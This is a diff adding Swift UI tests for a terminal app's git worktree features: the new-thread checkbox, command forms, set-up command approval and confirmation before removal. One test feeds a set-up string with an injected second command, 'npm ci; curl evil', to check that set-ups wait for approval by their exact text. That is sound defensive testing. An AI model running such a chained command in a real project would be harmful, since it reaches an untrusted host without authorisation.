@@ -1,6 +1,7 @@
 import Answers
 import Core
 import JSON
+import Review
 import Scene
 import TestSupport
 import Testing
@@ -294,5 +295,86 @@ extension Workspace {
     var changed = self
     change(&changed)
     return changed
+  }
+}
+
+/// Where a person sees them on the screen.
+struct WorktreeScreenTests {
+  private func driver(_ branch: GitBranch = .named("main")) -> AppDriver {
+    let app = AppDriver()
+    app.checkOut(branch, in: "/home/ada/src/api")
+    app.press("<enter>")
+    app.takeEffects()
+    return app
+  }
+
+  @Test func `the form for a new thread has a box where there is a repository`() throws {
+    let app = driver()
+    app.press("n")
+    app.type("one")
+    app.expectRow(containing: "Worktree", "[ ] a folder and a branch of its own")
+    app.press("<shift-tab> ")
+    app.expectRow(containing: "Worktree", "[x]")
+    app.press("<enter>")
+    let works = app.takeEffects().compactMap { if case .run(.worktree(let wish)) = $0 { wish.work } else { nil } }
+    #expect(works == [.plan(directory: "/home/ada/src/api", name: "one", taken: [])])
+  }
+
+  @Test func `elsewhere there is none`() {
+    let app = driver(.noRepository)
+    app.press("n")
+    app.expectNoRow(containing: "Worktree")
+    app.press("<esc>")
+  }
+
+  @Test func `the form for a command offers one with the thread of its own`() {
+    let app = driver()
+    app.press("c")
+    app.type("two")
+    app.press("<tab><tab><tab><tab><tab>")
+    app.expectRow(containing: "a thread of its own")
+    app.press(" ")
+    app.expectRow(containing: "one of its own, in a worktree")
+    app.press("<enter>")
+    let command = app.workspace.upNext.running.first?.item ?? app.workspace.upNext.waiting.items.last
+    #expect(command?.request.worktree == Worktree())
+    app.takeEffects()
+  }
+
+  @Test func `a set-up from the command line is allowed in the project's menu, by its text`() throws {
+    let app = driver()
+    let path = "/home/ada/src/api"
+    _ = app.ask(.call(Call(["project", path, "--setup", "npm ci"])))
+    #expect(app.workspace.projectChoices[path]?.worktrees.setupToAllow == "npm ci")
+    app.press("<esc>3gm<end><enter>")
+    app.expectRow(containing: "npm ci (not allowed yet)")
+    app.press("<end><enter>")
+    #expect(app.workspace.projectChoices[path]?.worktrees.setupToAllow == nil)
+    app.press("<esc>")
+    _ = app.ask(.call(Call(["project", path, "--setup", "npm ci; curl evil"])))
+    #expect(app.workspace.projectChoices[path]?.worktrees.setupToAllow == "npm ci; curl evil")
+  }
+
+  @Test func `removing one asks first`() throws {
+    var workspace = Samples.idle
+    workspace.streams.update(Samples.flaky) {
+      var worktree = Worktree()
+      worktree.stage = .ready
+      worktree.plan = WorktreePlan(
+        repository: "/r", path: "/data/w/login", branch: "upnext/login", base: "abc", baseBranch: "main", folder: "")
+      $0.worktree = worktree
+    }
+    let app = AppDriver(workspace)
+    app.press("<enter>")
+    app.takeEffects()
+    app.press("<esc>")
+    app.chooseInMenu("remove worktree")
+    app.expectRow(containing: "Remove the worktree of fix flaky test")
+    #expect(app.takeEffects().isEmpty)
+    app.press("<enter>")
+    #expect(
+      app.takeEffects().contains { if case .agent(.release(Samples.flaky, _)) = $0 { true } else { false } })
+    app.press("y")
+    app.expectRow(containing: "branch upnext/login, from main")
   }
 }
